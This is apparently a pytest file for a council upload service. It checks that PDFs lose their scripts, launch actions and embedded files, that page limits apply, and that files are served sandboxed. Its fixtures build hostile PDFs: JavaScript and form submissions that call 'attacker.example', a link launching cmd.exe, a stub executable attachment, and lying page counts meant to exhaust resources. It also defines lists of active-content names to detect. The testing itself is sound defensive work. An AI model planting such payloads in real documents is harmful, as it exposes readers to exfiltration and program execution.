"""Uploads (issue 11, finding 9): page limits per document and per pack, active content stripped
from PDFs before they are stored, and every upload served sandboxed under a name its type matches.

A 459 KB PDF with 50,000 pages (one content stream shared by every page) was accepted and then took
a pack build 129 s and 700 MB. A PDF can also carry JavaScript run on opening, actions run on a
page or a field, links that launch programs and files hidden inside it: a reader's PDF viewer, not
this service, would run them, so they are taken out at upload. The person's file is kept only as
its fingerprint (``original_sha256``); what is stored and published is the cleaned file.
"""

# ruff: noqa: F811  (fixtures imported from the pack kit are redefined as test arguments)

import datetime
import hashlib
import io

import pikepdf
import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pikepdf import Array, Dictionary, Name, String

from council import permissions
from council.errors import RuleError
from council.packs import render as pack_render
from council.packs import services as pack_services
from council.packs.models import BuildStatus
from council.packs.spec import PackSpec
from council.roles import Role
from council.uploads import inspect_upload
from members.consultations import services as consultation_services
from members.models import ConsultationDocument
from scrutiny import packs, services
from scrutiny.models import SupportingDocument
from tests.factories import ConsultationFactory, MeetingFactory, UserFactory
from tests.factories.scrutiny import london
from tests.packs_engine_kit import (
    KIND,
    kit,  # noqa: F401  (fixture)
    pack_templates,  # noqa: F401  (fixture)
    page,
    pdf_text,
    text_pdf,
    upload_part,
)

pytestmark = pytest.mark.django_db

SANDBOX = "default-src 'none'; sandbox"
ACTIVE_ACTIONS = {
    "/JavaScript", "/Launch", "/ImportData", "/SubmitForm", "/ResetForm", "/GoToE", "/GoToR",
    "/RichMediaExecute", "/Rendition", "/Sound", "/Movie",
}  # fmt: skip
ACTIVE_ANNOTATIONS = {"/FileAttachment", "/RichMedia", "/Screen", "/Movie", "/Sound", "/3D"}


# --- PDFs an attacker (or an unlucky officer) might upload ----------------------------------------


def _script(code: str) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def with_active_content(content: bytes) -> bytes:
    """The report ``content`` with every kind of active content the finding names, and an ordinary
    web link, which is kept."""
    pdf = pikepdf.open(io.BytesIO(content))
    first, second = pdf.pages[0], pdf.pages[1]
    pdf.Root.OpenAction = pdf.make_indirect(_script("app.launchURL('https://attacker.example/?' + this.path)"))
    pdf.Root.AA = Dictionary(WC=_script("app.alert('closing')"))
    first.obj.AA = Dictionary(O=_script("this.submitForm('https://attacker.example/collect')"))
    pdf.attachments["payroll.xlsm"] = pikepdf.AttachedFileSpec(pdf, b"PK\x03\x04 macro-laden workbook")
    hidden = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 a program", filename="invoice.exe")
    pdf.Root.Names.JavaScript = Dictionary(Names=Array([String("init"), pdf.make_indirect(_script("app.alert(1)"))]))

    def link(top, action):
        return pdf.make_indirect(
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, top, 300, top + 20]), A=action)
        )

    first.obj.Annots = pdf.make_indirect(
        Array(
            [
                link(700, Dictionary(S=Name.Launch, F=String("C:\\Windows\\System32\\cmd.exe"))),
                link(660, Dictionary(S=Name.URI, URI=String("https://www.northbridge.example/commissioning"))),
                link(620, Dictionary(S=Name.GoTo, D=Array([second.obj, Name.Fit]), Next=_script("app.alert(2)"))),
                link(580, Dictionary(S=Name.URI, URI=String("javascript:app.alert(3)"))),
                pdf.make_indirect(
                    Dictionary(
                        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([72, 540, 92, 560]), FS=hidden.obj
                    )
                ),
            ]
        )
    )
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("comments"), Rect=Array([72, 500, 300, 520]),
            P=second.obj, AA=Dictionary(K=_script("event.value = 'changed'")),
        )
    )  # fmt: skip
    second.obj.Annots = Array([field, link(460, Dictionary(S=Name.SubmitForm, F=String("https://attacker.example")))])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    bookmark = pdf.make_indirect(Dictionary(Title=String("Introduction"), A=_script("app.alert(4)")))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=bookmark, Last=bookmark, Count=1))
    bookmark.Parent = outlines
    pdf.Root.Outlines = outlines
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def active_content(content: bytes) -> list[str]:
    """Every piece of active content left in a PDF, described (empty when there is none)."""
    found = []
    with pikepdf.open(io.BytesIO(content)) as pdf:
        root = pdf.Root
        found += [f"catalog {key}" for key in ("/OpenAction", "/AA") if key in root]
        names = root.get("/Names", Dictionary())
        found += [f"names {key}" for key in ("/JavaScript", "/EmbeddedFiles") if key in names]
        if "/XFA" in root.get("/AcroForm", Dictionary()):
            found.append("XFA form")
        for number, each in enumerate(pdf.pages, start=1):
            if "/AA" in each.obj:
                found.append(f"page {number} /AA")
            for annotation in each.obj.get("/Annots", Array()):
                if annotation.get("/Subtype") in ACTIVE_ANNOTATIONS:
                    found.append(f"page {number} {annotation.Subtype} annotation")
                if "/AA" in annotation:
                    found.append(f"page {number} annotation /AA")
        for obj in _everything(pdf.trailer):
            if obj.get("/S") in ACTIVE_ACTIONS or "/JS" in obj:
                found.append(f"{obj.get('/S')} action")
            if obj.get("/Type") == Name.EmbeddedFile and obj.read_raw_bytes():
                found.append("an embedded file")
            if "/EF" in obj:
                found.append("a file specification with its file")
            uri = obj.get("/URI")
            if uri is not None and not str(uri).startswith(("https:", "http:", "mailto:")):
                found.append(f"a {str(uri).split(':')[0]}: link")
    return found


def _everything(start):
    """Every dictionary (and stream) reachable from ``start``, direct or indirect, each once."""
    seen, stack = set(), [start]
    while stack:
        obj = stack.pop()
        if obj.is_indirect:
            if obj.objgen in seen:
                continue
            seen.add(obj.objgen)
        if isinstance(obj, (Dictionary, pikepdf.Stream)):
            yield obj
            stack.extend(value for value in obj.values() if isinstance(value, (Dictionary, Array, pikepdf.Stream)))
        elif isinstance(obj, Array):
            stack.extend(value for value in obj if isinstance(value, (Dictionary, Array, pikepdf.Stream)))


def links(content: bytes) -> list[str]:
    with pikepdf.open(io.BytesIO(content)) as pdf:
        return [
            str(annotation.A.URI)
            for each in pdf.pages
            for annotation in each.obj.get("/Annots", Array())
            if "/A" in annotation and annotation.A.get("/S") == Name.URI
        ]


def many_pages(count: int, *, declared: int | None = None) -> bytes:
    """A PDF of ``count`` pages that share one content stream: a few hundred KB for 50,000 pages.
    ``declared``: the page count its page tree claims, when it lies."""
    pdf = pikepdf.new()
    content = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (Annex) Tj ET")
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    resources = pdf.make_indirect(Dictionary(Font=Dictionary(F1=font)))
    tree = pdf.Root.Pages
    tree.Kids = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Page, Parent=tree, MediaBox=Array([0, 0, 595, 842]), Contents=content, Resources=resources
                )
            )
            for _ in range(count)
        ]
    )
    tree.Count = count
    out = io.BytesIO()
    if declared is None:
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        return out.getvalue()
    # qpdf writes the true count: put the lie in afterwards, padded so that no offset moves.
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    truth, lie = f"/Count {count}".encode(), f"/Count {declared}".encode()
    assert out.getvalue().count(truth) == 1
    return out.getvalue().replace(truth, lie.ljust(len(truth)))


@pytest.fixture(scope="module")
def fifty_thousand_pages() -> bytes:
    content = many_pages(50_000)
    assert len(content) < 600 * 1024  # as small as the file in the finding
    return content


def sha256(content: bytes) -> str:
    return hashlib.sha256(content).hexdigest()


def upload(content: bytes, name="report.pdf"):
    return SimpleUploadedFile(name, content, content_type="application/pdf")


def stored(document) -> bytes:
    with document.file.open("rb") as file:
        return file.read()


def stored_files(media):
    return [p for p in media.rglob("*") if p.is_file()] if media.exists() else []


# --- Fixtures ---------------------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def media(tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.MEDIA_ROOT.mkdir()
    return settings.MEDIA_ROOT


@pytest.fixture
def meeting():
    return MeetingFactory(starts_at=london(2026, 12, 10, 18))  # publishing on 1 December is on time


@pytest.fixture
def clerk(meeting):
    person = UserFactory(first_name="Emma", last_name="Clarke", roles=[Role.DEMOCRATIC_SERVICES])
    permissions.grant("members.change_body", person, meeting.body)
    return person


@pytest.fixture
def item(meeting, clerk):
    return services.agenda_item_add(meeting=meeting, by=clerk, title="Strategic Commissioning")


def add(item, clerk, content, name="report.pdf", title="Report of the Assistant Chief Executive"):
    return services.document_add(item=item, upload=upload(content, name), title=title, kind="report", by=clerk)


@pytest.fixture
def officer(person_with_role):
    return person_with_role(Role.OFFICER, first_name="Priya", last_name="Shah")


# --- Active content is stripped before the file is stored -----------------------------------------


def test_the_attackers_pdf_is_stored_without_its_active_content_and_still_reads(item, clerk):
    original = with_active_content(text_pdf(3, "Report"))
    assert len(active_content(original)) >= 12  # the planted content is all there to begin with

    document = add(item, clerk, original)
    kept = stored(document)
    assert active_content(kept) == []
    with pikepdf.open(io.BytesIO(kept)) as pdf:
        assert len(pdf.pages) == 3
    assert "Report page 2" in pdf_text(kept, 2)
    assert links(kept) == ["https://www.northbridge.example/commissioning"]  # an ordinary link is kept
    # The record fingerprints what is stored and published, and keeps the uploaded file's fingerprint.
    assert document.original_sha256 == sha256(original)
    assert document.sha256 == sha256(kept) != document.original_sha256
    assert document.size == len(kept) and document.page_count == 3


def test_an_attached_file_the_structure_tree_still_refers_to_is_emptied(item, clerk):
    """In a tagged PDF the structure tree refers to annotations: taking an attachment off its page
    is not enough, the file would still be written with the tree."""
    pdf = pikepdf.open(io.BytesIO(text_pdf(1, "Report")))
    payload = pdf.make_stream(b"MZ\x90\x00 a program")  # no /Type: it is optional
    spec = Dictionary(Type=Name.Filespec, F=String("minutes.exe"), EF=Dictionary(F=payload))
    attachment = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([72, 72, 92, 92]), FS=spec)
    )
    pdf.pages[0].obj.Annots = Array([attachment])
    reference = Dictionary(Type=Name.OBJR, Obj=attachment, Pg=pdf.pages[0].obj)
    pdf.Root.StructTreeRoot = pdf.make_indirect(
        Dictionary(Type=Name.StructTreeRoot, K=Dictionary(S=Name.Annot, K=Array([reference])))
    )
    pdf.Root.MarkInfo = Dictionary(Marked=True)
    out = io.BytesIO()
    pdf.save(out)
    document = add(item, clerk, out.getvalue())
    kept = stored(document)
    assert active_content(kept) == []
    assert b"a program" not in kept
    with pikepdf.open(io.BytesIO(kept)) as cleaned:
        assert "/StructTreeRoot" in cleaned.Root  # the tags are kept


def test_the_clerk_is_told_what_was_removed(item, clerk, client):
    client.force_login(clerk)
    url = reverse("scrutiny:document-add", args=[item.meeting_id, item.pk])
    original = with_active_content(text_pdf(2, "Report"))
    data = {"title": "Report of the Assistant Chief Executive", "kind": "report"}
    response = client.post(url, {**data, "file": upload(original)}, follow=True)
    assert "Scripts, automatic actions and embedded files were removed from it." in response.content.decode()
    response = client.post(url, {**data, "file": upload(text_pdf(2, "Report"))}, follow=True)
    assert "were removed from it" not in response.content.decode()


def test_a_clean_pdf_is_stored_byte_for_byte(item, clerk):
    original = text_pdf(2, "Report")
    document = add(item, clerk, original)
    assert stored(document) == original
    assert document.sha256 == document.original_sha256 == sha256(original)


def test_opening_at_a_page_is_not_active_content(item, clerk):
    """Office suites make PDFs that open at their first page: such a file is stored as it is."""
    pdf = pikepdf.open(io.BytesIO(text_pdf(2, "Report")))
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
    out = io.BytesIO()
    pdf.save(out)
    document = add(item, clerk, out.getvalue())
    assert stored(document) == out.getvalue() and document.sha256 == document.original_sha256


def test_inspection_gives_the_cleaned_content_and_both_fingerprints():
    original = with_active_content(text_pdf(2, "Appendix"))
    inspected = inspect_upload(upload(original))
    assert active_content(inspected.content) == []
    assert inspected.sha256 == sha256(inspected.content)
    assert inspected.original_sha256 == sha256(original)
    assert inspected.page_count == 2


def test_a_consultation_document_is_stripped_too(officer):
    consultation = ConsultationFactory(owner=officer)
    original = with_active_content(text_pdf(2, "Cycle"))
    document = consultation_services.document_add(
        consultation=consultation, upload=upload(original), title="The commissioning cycle", by=officer
    )
    kept = stored(document)
    assert active_content(kept) == []
    assert document.original_sha256 == sha256(original) != document.sha256 == sha256(kept)


# --- Pages per document -----------------------------------------------------------------------------


def test_a_pdf_over_the_page_limit_is_refused_naming_the_limit(item, clerk, settings, media):
    settings.DOCUMENT_MAX_PAGES = 5
    add(item, clerk, text_pdf(5, "Report"))  # at the limit: accepted
    with pytest.raises(RuleError) as refused:
        add(item, clerk, text_pdf(6, "Appendix"), title="Appendix A")
    assert refused.value.field == "file"
    assert refused.value.message == (
        "The PDF must have 5 pages or fewer. It has 6: split it into parts and upload each one"
    )
    assert SupportingDocument.objects.count() == 1 and len(stored_files(media)) == 1


def test_the_50000_page_pdf_is_refused(item, clerk, media, fifty_thousand_pages):
    with pytest.raises(RuleError) as refused:
        add(item, clerk, fifty_thousand_pages)
    assert refused.value.message == (
        "The PDF must have 500 pages or fewer. It has 50,000: split it into parts and upload each one"
    )
    assert not SupportingDocument.objects.exists() and stored_files(media) == []


def test_a_page_tree_that_understates_its_pages_is_counted_properly(item, clerk, media):
    liar = many_pages(600, declared=1)
    with pikepdf.open(io.BytesIO(liar), inherit_page_attributes=False) as pdf:
        assert pdf.Root.Pages.Count == 1 and len(pdf.pages) == 600
    with pytest.raises(RuleError) as refused:
        add(item, clerk, liar)
    assert refused.value.message == (
        "The PDF must have 500 pages or fewer. It has more than 500: split it into parts and upload each one"
    )
    assert not SupportingDocument.objects.exists() and stored_files(media) == []


def test_a_page_tree_that_repeats_a_branch_is_counted_in_full(item, clerk, media):
    """Ten references to one branch of 60 pages: 600 pages to a reader, from 60 page objects."""
    pdf = pikepdf.open(io.BytesIO(many_pages(60)))
    branch = pdf.make_indirect(Dictionary(Type=Name.Pages, Kids=pdf.Root.Pages.Kids, Count=60))
    for leaf in branch.Kids:
        leaf.Parent = branch
    pdf.Root.Pages.Kids = Array([branch] * 10)
    pdf.Root.Pages.Count = 1
    out = io.BytesIO()
    pdf.save(out)
    with pytest.raises(RuleError) as refused:
        add(item, clerk, out.getvalue())
    assert refused.value.message.startswith("The PDF must have 500 pages or fewer. It has ")
    assert not SupportingDocument.objects.exists() and stored_files(media) == []


def test_a_consultation_document_over_the_limit_is_refused_through_the_form(client_for, officer, settings, media):
    settings.DOCUMENT_MAX_PAGES = 2
    consultation = ConsultationFactory(owner=officer)
    url = reverse("members:consultation-document-add", args=[consultation.pk])
    page_ = client_for(officer).post(
        url, {"title": "Commissioning cycle", "file": SimpleUploadedFile("cycle.pdf", text_pdf(3, "Cycle"))}
    )
    assert page_.status_code == 200
    html = page_.content.decode()
    assert "<title>Error: " in html and "govuk-error-summary" in html
    assert "The PDF must have 2 pages or fewer. It has 3: split it into parts and upload each one" in html
    assert 'value="Commissioning cycle"' in html  # what was typed is kept
    assert "A PDF of up to 2 pages" in html  # the limit is in the field's hint before anyone uploads
    assert not ConsultationDocument.objects.exists() and stored_files(media) == []


# --- Pages per pack ---------------------------------------------------------------------------------


def test_an_upload_that_would_take_the_next_pack_over_its_limit_is_refused(meeting, item, clerk, settings, media):
    settings.DOCUMENT_MAX_PAGES, settings.PACK_MAX_PAGES = 8, 10
    second = services.agenda_item_add(meeting=meeting, by=clerk, title="Leisure centres")
    add(item, clerk, text_pdf(6, "Report"))
    add(second, clerk, text_pdf(4, "Options"), title="Options appraisal")  # 10: at the limit
    add(second, clerk, b"ward,need\nNorth,high\n", name="needs.csv", title="Ward needs")  # not in the pack
    with pytest.raises(RuleError) as refused:
        add(second, clerk, text_pdf(1, "Map"), title="Site plan")
    assert refused.value.field == "file"
    assert refused.value.message == (
        "An agenda pack can have at most 10 pages of supporting documents. The items not yet published "
        "already have 10 pages and this PDF has 1. Upload a shorter document, or publish those items first "
        "and add this one in a supplement"
    )
    assert SupportingDocument.objects.count() == 3 and len(stored_files(media)) == 3

    # Once published, those pages are in the agenda's pack: a supplement is a pack of its own.
    services.agenda_publish(meeting=meeting, by=clerk, today=datetime.date(2026, 11, 20))
    late = services.agenda_item_add(meeting=meeting, by=clerk, title="Site plan", today=datetime.date(2026, 11, 20))
    add(late, clerk, text_pdf(8, "Map"), title="Site plan")


def test_a_pack_over_its_limit_fails_to_build_before_anything_is_rendered(
    meeting, item, clerk, settings, monkeypatch, client
):
    add(item, clerk, text_pdf(6, "Report"))
    add(item, clerk, text_pdf(5, "Appendix"), title="Appendix A")
    services.agenda_publish(meeting=meeting, by=clerk, today=datetime.date(2026, 12, 1))
    settings.PACK_MAX_PAGES = 10  # lowered since the papers were added

    def render_part(*args, **kwargs):
        raise AssertionError("a part was rendered")

    monkeypatch.setattr(pack_render, "render_part", render_part)
    build = pack_services.build_now(packs.KIND, meeting, "public", by=clerk)
    assert build.status == BuildStatus.FAILED and build.version is None
    assert build.error == (
        "The pack would have more than 10 pages of supporting documents, the most one pack can have: "
        "“Appendix A (item 1: Strategic Commissioning)” has 5 pages, after 6 pages of documents before it. "
        "Remove or shorten documents, then build the pack again."
    )
    client.force_login(clerk)
    status = client.get(reverse("packs:build-status", args=[build.pk])).content.decode()
    assert "the most one pack can have" in status


def test_the_engine_refuses_the_50000_page_pdf_before_rendering(kit, clerk, monkeypatch, fifty_thousand_pages):
    subject = UserFactory()
    archive = upload_part("annex", "Annex, item 3: Minutes", fifty_thousand_pages)  # stored before the limits
    kit.set(subject, "public", PackSpec(title="Pack", author="Council", parts=(page("front", "Front"), archive)))
    monkeypatch.setattr(pack_render, "render_part", lambda *a, **k: pytest.fail("a part was rendered"))
    build = pack_services.build_now(KIND, subject, "public", by=clerk)
    assert build.status == BuildStatus.FAILED
    assert build.error.startswith("The pack would have more than 2,000 pages of supporting documents")
    assert "“Annex” (item 3: Minutes) has 50,000 pages" in build.error
    assert default_storage.exists(archive.storage_name)  # nothing of the person's is deleted


# --- Serving ----------------------------------------------------------------------------------------


def test_a_pdf_named_as_a_word_file_is_stored_and_served_as_a_pdf_sandboxed(item, clerk, client):
    document = add(item, clerk, text_pdf(1, "Report"), name="Cabinet report.docx")
    assert document.filename == "Cabinet report.pdf" and document.file.name.endswith(".pdf")
    client.force_login(clerk)
    url = reverse("scrutiny:document-open", args=[item.meeting_id, document.pk])
    response = client.get(url)
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'inline; filename="Cabinet report.pdf"'
    assert response["Content-Security-Policy"] == SANDBOX
    assert response["X-Content-Type-Options"] == "nosniff"

    sheet = add(item, clerk, b"ward,need\nNorth,high\n", name="needs.csv", title="Ward needs")
    response = client.get(reverse("scrutiny:document-open", args=[item.meeting_id, sheet.pk]))
    assert response["Content-Disposition"] == 'attachment; filename="needs.csv"'
    assert response["Content-Security-Policy"] == SANDBOX

    # A document stored before names were corrected is served under a name its type matches.
    SupportingDocument.objects.filter(pk=document.pk).update(filename="Cabinet report.docx")
    response = client.get(url)
    assert response["Content-Disposition"] == 'inline; filename="Cabinet report.pdf"'


def test_a_consultation_document_is_served_sandboxed_under_a_name_its_type_matches(client_for, officer):
    consultation = ConsultationFactory(owner=officer)
    document = consultation_services.document_add(
        consultation=consultation, upload=upload(text_pdf(1, "Cycle"), "cycle.docx"), title="Cycle", by=officer
    )
    assert document.file.name.endswith("/cycle.pdf")
    response = client_for(officer).get(reverse("members:consultation-document", args=[consultation.pk, document.pk]))
    assert response["Content-Disposition"] == 'inline; filename="cycle.pdf"'
    assert response["Content-Security-Policy"] == SANDBOX
    assert response["X-Content-Type-Options"] == "nosniff"
